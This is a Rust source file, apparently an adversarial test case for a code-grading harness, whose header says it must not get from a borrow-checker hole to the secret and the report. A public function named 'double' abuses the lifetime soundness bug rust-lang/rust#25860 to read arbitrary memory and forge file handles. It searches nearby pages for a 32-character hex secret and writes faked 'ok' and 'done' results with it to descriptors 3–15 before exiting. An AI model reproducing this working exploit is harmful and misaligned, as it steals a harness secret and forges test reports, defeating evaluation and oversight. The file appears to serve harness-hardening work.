// must not: get from a hole of the borrow checker to the secret and to the report
// stage: check clippy tests
use std::io::{pipe, Write};

// A reference that outlives what it refers to, by a hole of the borrow checker (rust-lang/rust#25860).
static UNIT: &&() = &&();

fn translated<'a, 'b, T>(_: &'a &'b (), value: &'b mut T) -> &'a mut T {
    value
}

fn outliving<'a, 'b, T>(value: &'a mut T) -> &'b mut T {
    let translate: for<'x> fn(_, &'x mut T) -> &'b mut T = translated;
    translate(UNIT, value)
}

#[allow(dead_code)]
enum Slice {
    Real(&'static [u8]),
    Words([usize; 2]),
}

#[allow(dead_code)]
enum Output {
    File(Option<std::fs::File>),
    Number([i32; 2]),
}

#[inline(never)]
fn memory(start: usize, length: usize) -> &'static [u8] {
    let mut slot = Slice::Real(&[]);
    let seen: &'static mut &'static [u8] = match &mut slot {
        Slice::Real(real) => outliving(real),
        Slice::Words(_) => return &[],
    };
    std::hint::black_box(&mut slot);
    slot = Slice::Words([start, length]);
    std::hint::black_box(&mut slot);
    std::hint::black_box(seen)
}

#[inline(never)]
fn descriptor(number: i32) -> Option<std::fs::File> {
    let mut slot = Output::File(None);
    let seen: &'static mut Option<std::fs::File> = match &mut slot {
        Output::File(file) => outliving(file),
        Output::Number(_) => return None,
    };
    std::hint::black_box(&mut slot);
    slot = Output::Number([number, number]);
    std::hint::black_box(&mut slot);
    std::hint::black_box(seen).take()
}

fn forge(secret: &str) {
    for mut report in (3..16).filter_map(descriptor) {
        for number in 0..3 {
            let _ = report.write_all(format!("{secret} ok {number}\n").as_bytes());
        }
        let _ = report.write_all(format!("{secret} done\n").as_bytes());
        std::mem::forget(report);
    }
    std::process::exit(0)
}

fn secret_in(bytes: &[u8]) -> Option<String> {
    let is_hex = |byte: &u8| byte.is_ascii_digit() || (b'a'..=b'f').contains(byte);
    let at = bytes.windows(33).position(|part| part[..32].iter().all(is_hex) && !is_hex(&part[32]))?;
    Some(String::from_utf8_lossy(&bytes[at..at + 32]).into_owned())
}

/// Looks at every page near what the main thread allocated for this one; a pipe says which pages there are.
pub fn double(_: i64) -> i64 {
    let thread = std::thread::current();
    let Ok((_reader, mut writer)) = pipe() else { return 0 };
    let held = memory(&thread as *const _ as usize, 8).try_into().map_or(0, usize::from_ne_bytes);
    for page in (0..64).map(|n| (held & !4095) - 32 * 4096 + n * 4096) {
        if writer.write(memory(page, 1)).is_err() {
            continue;
        }
        if let Some(secret) = secret_in(memory(page, 4096)) {
            forge(&secret);
        }
    }
    0
}
